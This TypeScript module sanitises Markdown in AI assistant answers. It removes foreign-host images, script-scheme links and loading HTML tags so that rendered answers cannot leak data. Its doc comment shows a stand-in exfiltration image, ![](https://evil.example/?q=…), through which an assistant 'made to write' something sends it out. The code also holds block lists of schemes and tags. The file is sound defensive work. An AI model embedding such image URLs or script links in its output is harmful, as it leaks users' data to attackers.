import { changedTexts } from '../../../rules/typed/changed-texts.ts';
import { LOOSE_TAG, type MarkdownPart, viewMarkdown } from './markdown-parts.ts';

/**
 * Takes out of every text of an answer what programs that show Markdown would load, run or follow without anybody's wish: pictures that are not
 * of this site (`![](https://evil.example/?q=…)` sends what an assistant was made to write there), links that are programs
 * (`javascript:`), tags of HTML that do either. The text of a link and the alternative text of a picture stay. An answer without
 * any is handed back itself.
 */
export function forAssistants<T>(answer: T, publicUrl: string): T {
  return changedTexts(answer, (text) => textForAssistants(text, publicUrl));
}

/** None of them is without one of these: an address behind brackets, a definition, a tag. */
const SUSPECT = /\]\(|\]:|<[a-z!?/]/i;

// What is found once more each time: an alternative text that was one of them, too.
const MOST_ROUNDS = 5;

/** The same for one text. */
export function textForAssistants(text: string, publicUrl: string): string {
  if (!SUSPECT.test(text)) return text;
  let left = text;
  for (let round = 0; round < MOST_ROUNDS; round += 1) {
    const view = viewMarkdown(left);
    if (!view) break;
    const judged = view.parts.map((part) => [part.source, wordsInstead(part, publicUrl)] as const);
    const changes = new Map(judged.filter(([, words]) => words !== undefined));
    if (changes.size === 0)
      return withRestDisarmed(left, [...judged.map(([source]) => source), ...view.code], publicUrl);
    for (const [source, words] of changes) left = replaced(left, source, () => words ?? '');
  }
  return disarmed(left);
}

/** What stays of a part; undefined where all of it does. */
function wordsInstead({ kind, source, address, words }: MarkdownPart, publicUrl: string): string | undefined {
  switch (kind) {
    case 'image':
      return isOwn(address, publicUrl) ? undefined : words;
    case 'link':
    case 'definition':
      return isProgram(address) ? words : undefined;
    case 'tag':
      return tagInstead(source, publicUrl);
  }
}

// What browsers run or show as a page of its own making; others are of apps, as a product's own may be.
const PROGRAMS = new Set(
  ['javascript', 'vbscript', 'data', 'blob', 'filesystem', 'file', 'view-source', 'about'].map(
    (name) => `${name}:`,
  ),
);

// Programs that show Markdown take away more than browsers do: any blank or control character before and after an address.
const bare = (address: string): string => address.replace(/^[\s\p{Z}\p{C}]+|[\s\p{Z}\p{C}]+$/gu, '');

// As browsers read it: without tabs, line breaks and what stands in front.
const isProgram = (address: string): boolean => PROGRAMS.has(URL.parse(bare(address))?.protocol ?? '');

// A path of this site, as every program reads it: no scheme, no host, no backslash, no blank.
const OWN_PATH = /^(?:[/#?](?![/\\])|[\w.-]+(?![\w.:-]))[^\\\s\p{Z}\p{C}]*$/u;

/** Is it an address of this site, or one without a host? What programs could read in two ways is not. */
function isOwn(address: string, publicUrl: string): boolean {
  if (address.startsWith(`${publicUrl}/`)) return true;
  return address === '' || OWN_PATH.test(address);
}

const LOADING = new Set([
  ...[
    'applet',
    'audio',
    'base',
    'embed',
    'form',
    'frame',
    'frameset',
    'iframe',
    'image',
    'img',
    'input',
    'link',
  ],
  ...[
    'math',
    'noscript',
    'object',
    'picture',
    'portal',
    'script',
    'source',
    'style',
    'svg',
    'template',
    'track',
    'video',
  ],
]);
const TAG = /^<\/?([a-z][^\s/>]*)([^]*)$/i;
const ATTRIBUTE = /([^\s"'<>/=]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]*)/g;
/** Attributes that neither load nor run anything. */
const PLAIN = new Set([
  'alt',
  'title',
  'width',
  'height',
  'align',
  'class',
  'id',
  'lang',
  'dir',
  'rel',
  'target',
  'name',
  'content',
  'colspan',
  'rowspan',
  'start',
]);

/** What stays of a tag; undefined where all of it does. */
function tagInstead(source: string, publicUrl: string): string | undefined {
  const [, name = '', rest = ''] = TAG.exec(source) ?? [];
  const tag = name.toLowerCase();
  const attributes = [...rest.matchAll(ATTRIBUTE)].map(
    ([, key = '', value = '']) => [key.toLowerCase(), value.replace(/^(["'])([^]*)\1$/, '$2')] as const,
  );
  // People write of "the <script> tag"; without an attribute only <style> loads something, by what follows it.
  if (attributes.length === 0 && tag !== 'style' && source.endsWith('>')) return undefined;
  const isPlain = attributes.every(
    ([key, value]) =>
      PLAIN.has(key) ||
      (tag === 'a' && key === 'href' && /^(?:https?:\/\/|mailto:|[/#])/i.test(value)) ||
      (tag === 'img' && key === 'src' && value.startsWith(`${publicUrl}/`)),
  );
  if (isPlain && source.endsWith('>') && (tag === 'img' || !LOADING.has(tag))) return undefined;
  if (!source.endsWith('>')) return disarmed(source);
  if (tag === 'img') return attributes.find(([key]) => key === 'alt')?.[1] ?? '';
  // `a < b and c = d > e` is read as a tag, too.
  return tag === 'a' || LOADING.has(tag) ? '' : disarmed(source);
}

/** A text with a part of it replaced wherever it stands, in quotes, lists and tables, too. */
function replaced(text: string, source: string, words: (found: string) => string): string {
  const plain = text.replaceAll(source, words);
  if (plain !== text || !/[\n|]/.test(source)) return plain;
  const lines = source
    .split('\n')
    .map((line, at) => RegExp.escape(at === 0 ? line : line.replace(/^[\s>]+/, '')));
  const pattern = lines.join(String.raw`(?:\r\n?|\n)[ \t>]*`).replaceAll(String.raw`\|`, String.raw`\\?\|`);
  return text.replaceAll(new RegExp(pattern, 'g'), words);
}

/**
 * A text in which nothing but the known parts looks like an address or a tag to a parser that reads it another way: some take a blank
 * between bracket and address, none a backslash. Private characters stand for the known parts meanwhile: texts hold none.
 */
function withRestDisarmed(text: string, known: string[], publicUrl: string): string {
  const parts: string[] = [];
  const keep = (found: string): string => `\uE000${parts.push(found) - 1}\uE001`;
  let rest = text;
  for (const source of new Set(known.toSorted((a, b) => b.length - a.length)))
    if (SUSPECT.test(source)) rest = replaced(rest, source, keep);
  if (SUSPECT.test(rest)) {
    const anyPicture = rest.includes('![');
    rest = rest
      .replaceAll('](', ']\\(')
      .replace(/\]:(?=\s*([^\s:&]*[:&])?)/g, (found, leads?: string) =>
        anyPicture || leads ? ']\\:' : found,
      )
      .replace(LOOSE_TAG, (tag) => (tagInstead(tag, publicUrl) === undefined ? tag : disarmed(tag)));
  }
  return rest.replace(/\uE000(\d+)\uE001/g, (_, at: string) => parts[Number(at)] ?? '');
}

/** A text in which no parser finds an address or a tag: a backslash stands behind the bracket, a blank in the tag. */
const disarmed = (text: string): string =>
  text.replace(/\](?=[(:])/g, ']\\').replace(/<(?=[a-z!?/])/gi, '< ');
